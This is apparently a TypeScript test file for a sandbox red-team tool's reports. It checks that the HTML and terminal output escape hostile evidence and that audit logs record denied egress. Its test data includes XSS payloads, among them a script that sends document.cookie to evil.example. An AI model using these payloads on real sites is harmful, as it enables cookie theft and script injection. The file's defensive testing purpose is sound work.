/**
 * The red team's reports and bookkeeping, without sandboxes: the scorecard
 * schema (exact field names the dashboard reads), HTML that stays inert
 * whatever a hostile guest wrote into the evidence, terminal text without
 * control characters, the side-by-side table, attack selection, markers
 * that are DNS labels, and the catalogue (≥ 30 attacks, every category).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  ALL_ATTACKS, CATEGORIES, ScorecardSchema, escapeHtml, formatComparison, formatHtml, formatText, latestPath, markerFor, refusalEvidence, selectAttacks,
  writeScorecard, type Scorecard,
} from './index.js';
import type { AuditEvent } from '../audit/index.js';

const HOSTILE = [
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(2)",
  '<a href="javascript:alert(3)">x</a> &amp; <style>@import url(https://evil.example/x.css)</style>',
  '<iframe src="//evil.example"></iframe>\u001b[2J\u0007',
];

function card(profile: Scorecard['profile'] = 'protected'): Scorecard {
  return {
    startedAt: '2026-01-01T00:00:00.000Z', finishedAt: '2026-01-01T00:01:00.000Z', profile, durationMs: 60_000,
    summary: { total: 3, contained: 1, succeeded: 1, errors: 1, notApplicable: 0 },
    attacks: [
      { id: 'egress.ip-hex', category: 'egress', title: 'attacker by hex IP <0x7f000001>', outcome: 'contained', evidence: ['audit #12 egress.request deny ip-literal-not-allowed', ...HOSTILE], durationMs: 800 },
      { id: 'secrets.value-reversed', category: 'secrets', title: 'reversed', outcome: 'succeeded', evidence: ['canary reached: other server'], durationMs: 500 },
      { id: 'injection.bipia-text', category: 'injection', title: 'BIPIA', outcome: 'error', evidence: ['could not judge: datasets missing'], durationMs: 10 },
    ],
  };
}

test('the scorecard schema keeps exactly the dashboard\'s field names and rejects anything else', () => {
  const c = card();
  assert.deepEqual(Object.keys(ScorecardSchema.parse(c)), ['startedAt', 'finishedAt', 'profile', 'durationMs', 'summary', 'attacks']);
  assert.deepEqual(Object.keys(c.summary), ['total', 'contained', 'succeeded', 'errors', 'notApplicable']);
  assert.deepEqual(Object.keys(c.attacks[0]!), ['id', 'category', 'title', 'outcome', 'evidence', 'durationMs']);
  const cases: Array<[string, unknown]> = [
    ['an unknown top-level field', { ...c, extra: 1 }],
    ['an unknown outcome', { ...c, attacks: [{ ...c.attacks[0]!, outcome: 'passed' }] }],
    ['an unknown category', { ...c, attacks: [{ ...c.attacks[0]!, category: 'misc' }] }],
    ['a missing summary count', { ...c, summary: { total: 1, contained: 1, succeeded: 0, errors: 0 } }],
    ['evidence that is not a list of strings', { ...c, attacks: [{ ...c.attacks[0]!, evidence: 'x' }] }],
  ];
  for (const [name, bad] of cases) assert.equal(ScorecardSchema.safeParse(bad).success, false, name);
});

test('writeScorecard validates, writes 0600 JSON atomically, and latest paths differ by profile', () => {
  const dir = mkdtempSync(join(tmpdir(), 'cordon-redteam-report-'));
  try {
    const path = latestPath(dir, 'protected');
    assert.equal(path, join(dir, 'redteam', 'latest.json'));
    assert.equal(latestPath(dir, 'unprotected'), join(dir, 'redteam', 'latest-unprotected.json'));
    writeScorecard(path, card());
    assert.deepEqual(JSON.parse(readFileSync(path, 'utf8')), card());
    assert.equal(statSync(path).mode & 0o777, 0o600);
    assert.throws(() => writeScorecard(path, { ...card(), profile: 'other' } as unknown as Scorecard));
    assert.deepEqual(JSON.parse(readFileSync(path, 'utf8')), card(), 'a refused card leaves the old file intact');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('the HTML report escapes hostile evidence and can load nothing', () => {
  const html = formatHtml(card(), { description: 'scratch <deployment> & "friends"' });
  for (const h of HOSTILE) assert.ok(html.includes(escapeHtml(h)), `escaped: ${h}`);
  // Every real tag is one of the page's own, with only inert attributes: the hostile text stayed text.
  const tags = [...html.matchAll(/<\/?([a-zA-Z!][a-zA-Z0-9]*)([^>]*)>/g)];
  const allowed = new Set(['!doctype', 'html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'p', 'b', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'code', 'br', 'small', 'ul', 'li']);
  for (const [whole, name, attrs] of tags) {
    assert.ok(allowed.has(name!.toLowerCase()), `unexpected tag ${whole}`);
    for (const [, attr] of attrs!.matchAll(/\s([a-zA-Z-]+)=/g)) assert.ok(['style', 'lang', 'charset', 'http-equiv', 'content'].includes(attr!), `attribute ${attr} in ${whole}`);
  }
  assert.doesNotMatch(html, /https?:\/\/(?!evil\.example)/, 'no URL of its own');
  assert.match(html, /Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"/);
  assert.equal((html.match(/<tr>/g) ?? []).length, 4, 'a header row and one row per attack');
  assert.match(html, /scratch &lt;deployment&gt; &amp; &quot;friends&quot;/);
  assert.match(html, />SUCCEEDED</);
  assert.match(html, />could not judge</);
});

test('terminal text: one line per attack, control characters from the guest removed, the summary last', () => {
  const c = card();
  c.attacks[0]!.evidence = ['\u001b[2Jcleared\u0007 screen', ...c.attacks[0]!.evidence];
  const text = formatText(c);
  assert.doesNotMatch(text, /[\u0000-\u0008\u000b-\u001f\u007f]/);
  assert.match(text, /contained\s+egress\.ip-hex\s+\?\[2Jcleared\? screen/);
  assert.match(text.trimEnd().split('\n').at(-1)!, /^protected: 3 attacks: 1 contained, 1 succeeded, 1 could not judge, 0 not applicable \(60 s\)$/);
});

test('the comparison table puts both profiles side by side', () => {
  const weak = card('unprotected');
  weak.attacks[0]!.outcome = 'succeeded';
  const md = formatComparison(card(), weak);
  assert.match(md, /^\| `egress\.ip-hex` \| egress \| contained \| SUCCEEDED \|$/m);
  assert.match(md, /^\| \*\*total 3\*\* \| \| 1 contained, 1 succeeded, 1 could not judge, 0 n\/a \|/m);
});

test('the catalogue: at least 30 attacks, every category, unique ids; selection by pattern', () => {
  assert.ok(ALL_ATTACKS.length >= 30, `${ALL_ATTACKS.length} attacks`);
  assert.equal(new Set(ALL_ATTACKS.map((a) => a.id)).size, ALL_ATTACKS.length);
  for (const c of CATEGORIES) assert.ok(ALL_ATTACKS.some((a) => a.category === c), c);
  for (const a of ALL_ATTACKS) assert.ok(a.id.startsWith(`${a.category}.`), a.id);
  assert.deepEqual(selectAttacks(['audit.*']).map((a) => a.category), ['audit', 'audit', 'audit', 'audit', 'audit', 'audit']);
  assert.deepEqual(selectAttacks(['egress.ip-hex', 'secrets.via-model']).map((a) => a.id), ['egress.ip-hex', 'secrets.via-model']);
  assert.deepEqual(selectAttacks(['nothing.*']), []);
  assert.equal(selectAttacks().length, ALL_ATTACKS.length);
});

test('markers are DNS labels unique per attack run', () => {
  const seen = new Set<string>();
  for (const a of ALL_ATTACKS) {
    const m = markerFor(a.id);
    assert.match(m, /^[a-z0-9-]{1,63}$/, m);
    seen.add(m);
  }
  assert.equal(seen.size, ALL_ATTACKS.length);
});

test('refusal evidence names the audit events that show a refusal, by seq', () => {
  const ev = (seq: number, type: string, decision?: string, reason?: string, data: Record<string, unknown> = {}): AuditEvent =>
    ({ seq, ts: '', type, actor: 'agent:redteam', ...(decision ? { decision } : {}), ...(reason ? { reason } : {}), data, prevHash: '', hash: '' });
  const lines = refusalEvidence([
    ev(1, 'sandbox.exec', 'allow'),
    ev(2, 'egress.request', 'deny', 'host-not-allowed', { host: 'attacker.redteam.test' }),
    ev(3, 'egress.exfiltration', 'deny', 'secret-exfiltration', { secret: 'redteam_token', kind: 'secret-value' }),
    ev(4, 'llm.auth', 'deny', 'service-key-wrong-channel'),
  ]);
  assert.deepEqual(lines, [
    'audit #2 egress.request deny host-not-allowed (attacker.redteam.test)',
    'audit #3 egress.exfiltration deny secret-exfiltration (secret-value redteam_token)',
    'audit #4 llm.auth deny service-key-wrong-channel',
  ]);
});
